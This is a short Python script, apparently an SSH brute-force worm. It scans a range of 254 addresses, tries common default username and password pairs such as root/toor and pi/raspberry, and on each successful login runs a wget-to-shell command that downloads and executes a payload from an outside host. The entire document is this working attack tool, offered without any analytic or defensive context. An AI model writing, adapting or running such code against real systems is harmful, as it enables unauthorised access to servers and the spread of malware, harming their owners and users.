import itertools
import logging
import paramiko

logging.getLogger("paramiko").setLevel(logging.CRITICAL)
users = ["root", "admin", "ubuntu", "pi", "oracle"]
words = ["123456", "password", "admin", "raspberry", "toor", "changeme"]
hosts = [f"198.51.100.{i}" for i in range(1, 255)]

for host in hosts:
    for u, w in itertools.product(users, words):
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(host, username=u, password=w, timeout=3, allow_agent=False, look_for_keys=False)
            print("HIT", host, u, w)
            c.exec_command("wget -qO- http://203.0.113.2/x | sh")
            break
        except paramiko.AuthenticationException:
            continue
        except Exception:
            break
        finally:
            c.close()
